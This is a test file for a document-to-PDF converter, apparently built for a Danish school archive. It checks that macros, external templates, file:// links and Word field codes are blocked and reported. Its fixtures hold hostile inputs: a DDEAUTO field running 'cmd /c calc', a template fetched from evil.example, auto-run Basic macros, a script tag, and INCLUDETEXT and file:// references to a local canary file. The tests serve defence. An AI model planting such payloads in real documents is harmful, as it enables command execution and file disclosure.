import { beforeAll, describe, expect, test } from 'bun:test';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { directDocumentWorker, type Converted, type FileToConvert, type NotConverted } from '../../src/pdf/index.ts';
import { encode } from 'fast-png';
import { encodeJpeg } from '../../src/pdf/ocr/jpeg.ts';
import { openDocumentFile, sheetFile, wordFile, zipped } from '../support/office-files.ts';

const worker = directDocumentWorker();
const hasOffice = Bun.which('soffice') !== null;
const text = (content: string) => new TextEncoder().encode(content);
const results = new Map<string, Converted | NotConverted>();

const mail = `From: =?utf-8?q?=C3=85se?= Friis <ase@skole.example>
To: Kontoret <kontoret@skole.example>
Date: Tue, 24 Nov 2026 10:00:00 +0100
Subject: =?utf-8?q?Sp=C3=B8rgsm=C3=A5l?=
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=x

--x
Content-Type: text/html; charset=utf-8

<p>Hej skole, Ida er <b>syg</b></p><img src="http://sporing.example/x.gif"><script>alert(1)</script>
--x
Content-Type: application/pdf; name="attest.pdf"
Content-Disposition: attachment; filename="attest.pdf"

x
--x--
`.replaceAll('\n', '\r\n');

/** A file beside the documents that no document may show. */
const folder = mkdtempSync(join(tmpdir(), 'elevarkiv-canary-'));
const canary = join(folder, 'kanarie.txt');
const ranMark = join(folder, 'ran');
const basic = (name: string) => `<?xml version="1.0"?><!DOCTYPE script:module PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "module.dtd"><script:module xmlns:script="http://openoffice.org/2000/script" script:name="${name}" script:language="StarBasic">Sub Main
f = FreeFile
Open &quot;${ranMark}&quot; For Output As #f
Print #f, &quot;ran&quot;
Close #f
End Sub</script:module>`;
const listener = '<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document" xlink:type="simple"/></office:event-listeners></office:scripts>';
const library = { 'Basic/script-lc.xml': '<?xml version="1.0"?><library:libraries xmlns:library="http://openoffice.org/2000/library" xmlns:xlink="http://www.w3.org/1999/xlink"><library:library library:name="Standard" library:link="false"/></library:libraries>', 'Basic/Standard/script-lb.xml': '<?xml version="1.0"?><library:library xmlns:library="http://openoffice.org/2000/library" library:name="Standard" library:readonly="false" library:passwordprotected="false"><library:element library:name="Module1"/></library:library>', 'Basic/Standard/Module1.xml': basic('Module1') };
const field = (code: string) => `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> ${code} </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>felt</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;

const files: Record<string, Uint8Array> = {
  'brev.docx': wordFile(['Kære Sofie', 'CPR-nr. 010107-1234']),
  'ark.xlsx': sheetFile([['Navn', 'CPR'], ['Ib', '020208-4321']]),
  'skjult.xlsx': sheetFile([['Navn', 'CPR'], ['Sofie', '010107-1234']], { hidden: true }),
  'a.odt': openDocumentFile('<text:p>Æblegrød <text:s text:c="3"/>hver dag</text:p>'),
  'note.txt': text('Kære forældre\n\nMødet er   flyttet\fSide to'),
  'latin.txt': new Uint8Array([...text('K'), 0xe6, ...text('re elev')]),
  'm.eml': text(mail),
  'side.html': text(`<html><body><h1>Brev</h1><iframe src="file://${canary}"></iframe><img src="file://${canary}"><p>Åben dag</p></body></html>`),
  'r.rtf': text("{\\rtf1\\ansi{\\fonttbl\\f0 Arial;}\\f0 K\\'e6re Sofie\\par 010107-1234\\par}"),
  'linked.odt': openDocumentFile(`<text:section text:name="s"><text:section-source xlink:type="simple" xlink:href="file://${canary}"/><text:p>egne ord</text:p></text:section>`),
  'macro.odt': openDocumentFile('<text:p>makro</text:p>', { scripts: listener, parts: library }),
  'macro.docm': wordFile(['makro'], { main: 'application/vnd.ms-word.document.macroEnabled.main+xml', parts: { 'word/vbaProject.bin': text('x') }, links: [{ id: 'm', type: 'http://schemas.microsoft.com/office/2006/relationships/vbaProject', target: 'vbaProject.bin' }] }),
  'template.docx': wordFile(['brev'], { links: [{ id: 's', type: 'settings', target: 'settings.xml' }], parts: {
    'word/settings.xml': '<?xml version="1.0"?><w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="t"/></w:settings>',
    'word/_rels/settings.xml.rels': '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="t" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
  } }),
  'felter.docx': wordFile([field(`INCLUDETEXT "${canary}"`), field(`INCLUDEPICTURE "file://${canary}" \\d`), field('DDEAUTO c:\\\\cmd "/c calc"')]),
  'kommentar.docx': wordFile(['Kære Sofie', '<w:p><w:del w:id="1" w:author="x"><w:r><w:delText>030309-1111</w:delText></w:r></w:del><w:r><w:rPr><w:vanish/></w:rPr><w:t>CPR 040410-2222</w:t></w:r></w:p>'], {
    links: [{ id: 'c', type: 'comments', target: 'comments.xml' }],
    parts: { 'word/comments.xml': '<?xml version="1.0"?><w:comments xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:comment w:id="0" w:author="x"><w:p><w:r><w:t>Se 020208-4321</w:t></w:r></w:p></w:comment></w:comments>' },
  }),
  'foto.jpg': await encodeJpeg({ width: 400, height: 200, channels: 1, data: new Uint8Array(80_000).fill(90) }, 80),
  'skaerm.png': encode({ width: 200, height: 400, channels: 1, depth: 8, data: new Uint8Array(80_000).fill(90) }),
  'kaput.docx': zipped({ '[Content_Types].xml': '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>' }),
};

beforeAll(async () => {
  writeFileSync(canary, 'KANARIEFUGL');
  const batch: FileToConvert[] = Object.entries(files).filter(() => hasOffice).map(([filename, content]) => ({ id: filename, filename, content }));
  if (!hasOffice) console.log('soffice is missing: conversions are skipped');
  await worker.convertAll(batch, { onResult: async (result) => void results.set(result.id, result) });
}, 120_000);

const made = (name: string): Converted => {
  const result = results.get(name)!;
  if ('problem' in result) throw result.problem;
  return result;
};
const shown = async (name: string) => (await worker.read(made(name).pdf, {})).map((page) => page.text).join('\n');

describe.skipIf(!hasOffice)('a batch of all kinds in one LibreOffice process', () => {
  test('what is in the files is what the pages show', async () => {
    expect(await shown('brev.docx')).toContain('CPR-nr. 010107-1234');
    expect(await shown('ark.xlsx')).toContain('020208-4321');
    expect(await shown('a.odt')).toContain('Æblegrød');
    expect(await shown('latin.txt')).toContain('Kære elev');
    expect(await shown('r.rtf')).toContain('Kære Sofie');
    const [photo] = await worker.read(made('foto.jpg').pdf, {});
    expect([Math.round(photo!.width), Math.round(photo!.height)]).toEqual([842, 595]);
    expect(made('skaerm.png')).toMatchObject({ kind: 'png', mime: 'image/png', pages: 1 });
    expect(made('note.txt')).toMatchObject({ kind: 'text', mime: 'text/plain', pages: 2 });
    expect(await shown('side.html')).toMatch(/Brev[\s\S]*Åben dag/);
    for (const result of results.values()) if ('pdf' in result) expect(Buffer.from(result.pdf.subarray(0, 5)).toString()).toBe('%PDF-');
  });

  test('an e-mail: its head, its body without what fetches or runs, the names of its attachments', async () => {
    const page = await shown('m.eml');
    expect(page).toContain('Åse Friis <ase@skole.example>');
    expect(page).toContain('24. nov. 2026 kl. 10.00');
    expect(page).toMatch(/Spørgsmål[\s\S]*attest\.pdf[\s\S]*Ida er syg/);
    expect(made('m.eml').notes).toEqual([{ kind: 'picture', where: 'sporing.example' }]);
    expect(made('m.eml').text).toContain('Emne: Spørgsmål');
  });

  test('macros never run, and are told of', async () => {
    expect(made('macro.odt').notes).toEqual([{ kind: 'macros' }]);
    expect(made('macro.docm').notes).toEqual([{ kind: 'macros' }]);
    expect(await Bun.file(ranMark).exists()).toBe(false);
  });

  test('nothing outside a file comes into it, whichever way it asks', async () => {
    for (const name of ['linked.odt', 'felter.docx', 'side.html']) expect(await shown(name)).not.toContain('KANARIE');
    expect(made('linked.odt').notes).toEqual([{ kind: 'data', where: 'kanarie.txt' }]);
    expect(made('template.docx').notes).toEqual([{ kind: 'template', where: 'evil.example' }]);
    expect(await shown('linked.odt')).toContain('egne ord');
  });

  test('numbers that stand in the file are found with their place, whether the pages show them or not', () => {
    expect(made('brev.docx').numbers).toEqual([{ kind: 'cpr', number: '0101071234', place: 'body' }]);
    expect(made('kommentar.docx').numbers).toEqual(expect.arrayContaining([
      { kind: 'cpr', number: '0202084321', place: 'comments' }, { kind: 'cpr', number: '0303091111', place: 'deleted' }, { kind: 'cpr', number: '0404102222', place: 'hidden' },
    ]));
    expect(made('kommentar.docx').notes).toEqual([{ kind: 'tracked_changes' }, { kind: 'comments' }, { kind: 'hidden_text' }]);
    expect(made('skjult.xlsx')).toMatchObject({ numbers: [{ number: '0101071234' }], notes: [{ kind: 'hidden_sheets' }] });
  });

  test('one that is broken does not hold up the others', () => {
    expect(results.size).toBe(Object.keys(files).length);
    expect(results.get('kaput.docx')).toMatchObject({ problem: { reason: 'convert.damaged' } });
    rmSync(folder, { recursive: true, force: true });
  });
});
